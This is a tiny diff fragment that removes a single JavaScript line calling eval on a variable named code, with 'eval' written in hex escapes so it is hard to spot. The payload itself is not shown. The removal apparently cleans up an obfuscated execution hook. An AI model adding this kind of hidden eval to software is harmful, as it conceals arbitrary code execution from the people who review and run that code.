@@ -1,1 +1,0 @@
-window["\x65\x76\x61\x6c"](code);
